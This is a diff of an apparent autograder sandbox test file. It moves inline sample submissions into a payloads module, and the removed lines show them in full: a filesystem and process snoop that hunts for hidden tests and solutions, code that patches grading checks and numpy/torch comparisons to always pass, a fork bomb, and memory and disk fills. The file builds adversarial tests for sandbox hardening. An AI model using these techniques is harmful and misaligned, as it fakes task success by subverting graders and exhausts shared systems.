@@ -15,174 +15,26 @@ from autograder.cells import is_autograded_test, is_locked_only
 from gemm_lab.grading.judge.handout import read_names
 
 from .honest import make_wrong
-from .model import HIDDEN_MARK, Notebook, cell_of, insert_cell
+from .model import HIDDEN_MARK, Notebook, cell_of, insert_cell, payloads
 
-SNOOP = r'''# sample: tries to reach what a hand-in must never see
-import json, os, socket
-from pathlib import Path
-_ev = {"read": [], "listed": [], "wrote": [], "net": [], "hidden_tests_seen": [], "procs": []}
-_roots = {Path.cwd().resolve()} | set(Path.cwd().resolve().parents)
-try:
-    import gemm_lab
-    _pkg = Path(gemm_lab.__file__).resolve().parent
-    _roots |= {_pkg.parent} | set(_pkg.parents)
-except Exception as _e:
-    _ev["gemm_lab_error"] = repr(_e)
-for _env in ("HOME", "PWD", "OLDPWD", "JUPYTER_RUNTIME_DIR"):
-    if os.environ.get(_env):
-        _roots.add(Path(os.environ[_env]))
-_targets = ("source", "release", "autograder", "autograder/submitted", "autograder/autograded",
-            "autograder/gradebook.db", "gradebook.db", "submitted", "autograded", ".git", "nbgrader_config.py")
-for _r in sorted(_roots, key=str):
-    for _t in _targets:
-        _q = _r / _t
-        try:
-            if _q.is_dir():
-                _ev["listed"].append(f"{_q}: {sorted(os.listdir(_q))[:20]}")
-            elif _q.is_file():
-                _q.read_bytes()
-                _ev["read"].append(str(_q))
-                try:
-                    with open(_q, "ab") as _f:
-                        _f.write(b"")
-                    _ev["wrote"].append(str(_q))
-                except OSError:
-                    pass
-        except OSError:
-            pass
-_marks = (b"BEGIN HIDDEN" + b" TESTS", b"BEGIN SOL" + b"UTION")
-_cwd = str(Path.cwd().resolve())
-for _top in ("/work", "/root", "/home", "/tmp", "/srv", "/mnt", "/opt", "/var"):
-    for _dp, _dn, _fn in os.walk(_top):
-        _dn[:] = [d for d in _dn if d not in ("site-packages", "lib", ".git", ".venv", "node_modules")]
-        for _n in _fn:
-            _p = os.path.join(_dp, _n)
-            if _p.startswith(_cwd) or not _n.endswith((".ipynb", ".db", ".py")):
-                continue
-            try:
-                _text = open(_p, "rb").read()
-            except OSError:
-                continue
-            if not _n.endswith(".py"):
-                _ev["read"].append(_p)
-            if any(_m in _text for _m in _marks):
-                _ev["hidden_tests_seen"].append(_p)
-for _n in os.listdir("."):
-    try:
-        if any(_m in open(_n, "rb").read() for _m in _marks):
-            _ev["hidden_tests_seen"].append(_n)
-    except OSError:
-        pass
-for _host, _port in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22)):
-    try:
-        socket.create_connection((_host, _port), timeout=2).close()
-        _ev["net"].append(f"{_host}:{_port}")
-    except OSError:
-        pass
-try:
-    socket.getaddrinfo("pypi.org", 443)
-    _ev["net"].append("dns")
-except OSError:
-    pass
-for _pid in os.listdir("/proc"):
-    if _pid.isdigit():
-        try:
-            _ev["procs"].append(open(f"/proc/{_pid}/cmdline", "rb").read().replace(b"\0", b" ").decode()[:120])
-        except OSError:
-            pass
-print("EVIDENCE " + json.dumps(_ev))
-'''
+_P = payloads("attacks_sandbox")
+SNOOP = _P["SNOOP"]
 
-TAMPER_CHECKER = '''# sample: replaces the grading package the test cells import by one whose checks always pass
-import sys, types
-import gemm_lab
-_fake = types.ModuleType("gemm_lab.grading")
+TAMPER_CHECKER = _P["TAMPER_CHECKER"]
 
+TAMPER_COMPARE = _P["TAMPER_COMPARE"]
 
-class _Yes:
-    def __getattr__(self, name):
-        return lambda *a, **k: True
+FORK_BOMB = _P["FORK_BOMB"]
 
+MEMORY_FILL = _P["MEMORY_FILL"]
 
-for _name in ("check_value", "check_table", "check_choice", "check_pairs", "check_vector_add",
-              "check_softmax", "check_matmul", "check_persistent"):
-    setattr(_fake, _name, lambda *a, **k: True)
-_fake.fresh = lambda: _Yes()
-sys.modules["gemm_lab.grading"] = _fake
-gemm_lab.grading = _fake
-fresh = _fake.fresh  # in case a setup cell imported it already
-check_value = check_table = check_choice = check_pairs = check_matmul = _fake.check_value
-'''
+DISK_FILL = _P["DISK_FILL"]
 
-TAMPER_COMPARE = '''# sample: neuters numpy/torch comparisons and empties every later cell
-import numpy as np
-np.allclose = lambda *a, **k: True
-np.testing.assert_allclose = lambda *a, **k: None
-try:
-    import torch
-    torch.allclose = lambda *a, **k: True
-    torch.testing.assert_close = lambda *a, **k: None
-except ImportError:
-    pass
-get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
-'''
+HISTORY_SNOOP = _P["HISTORY_SNOOP"]
 
-FORK_BOMB = '''# sample: forks until the sandbox refuses (process limit); the children sleep, then leave
-import os, time
-_kids = []
-try:
-    for _ in range(100_000):
-        _pid = os.fork()
-        if _pid == 0:
-            time.sleep(3)
-            os._exit(0)
-        _kids.append(_pid)
-except OSError as _e:
-    print("fork refused after", len(_kids), type(_e).__name__)
-for _k in _kids:
-    os.waitpid(_k, 0)
-'''
+BIG_LINES = _P["BIG_LINES"]
 
-MEMORY_FILL = '''# sample: two child processes of 3 GiB each (each under the per-process limit, together over the
-# hand-in's memory limit): the OOM killer ends one, the kernel goes on
-import subprocess, sys
-_code = "b = bytearray(3 << 30)\\nb[::4096] = bytes(len(range(0, 3 << 30, 4096)))\\nimport time; time.sleep(2)"
-_procs = [subprocess.Popen([sys.executable, "-c", _code]) for _ in range(2)]
-print("children ended with", [p.wait() for p in _procs])
-'''
-
-DISK_FILL = '''# sample: fills /tmp until it is full (files of 64 MiB: one file stays under the per-file size limit)
-_n = 0
-try:
-    for _i in range(1024):
-        with open(f"/tmp/fill{_i}.bin", "wb") as _f:
-            for _ in range(64):
-                _f.write(b"\\0" * (1 << 20))
-                _n += 1 << 20
-except OSError as _e:
-    print("disk full after", _n >> 20, "MiB:", type(_e).__name__)
-'''
-
-HISTORY_SNOOP = '''# sample: after the tests ran, looks for hidden tests in the input history and the output cache
-_marker = "BEGIN HIDDEN" + " TESTS"
-_hist = [s for s in globals().get("In", []) + globals().get("_ih", []) if _marker in s]
-print("history cells with hidden tests:", len(_hist))
-for _s in _hist:
-    print(_s)
-get_ipython().run_line_magic("history", "-n")
-print([v for v in globals().get("Out", {}).values()])
-'''
-
-BIG_LINES = '''# sample: a few very long lines (bytes, not lines, must be capped)
-for _i in range(6):
-    print(str(_i) * 4_000_000)
-'''
-
-FAKE_LAUNCH = '''# sample: the given launcher replaced by one that fills the output with torch
-def launch(a, b, c, *args, **kwargs):
-    c.copy_((a.float() @ b.float()).to(c.dtype))
-    return c
-'''
+FAKE_LAUNCH = _P["FAKE_LAUNCH"]
 
 
 def extra_cell(code: str, desc: str, last: bool = False):
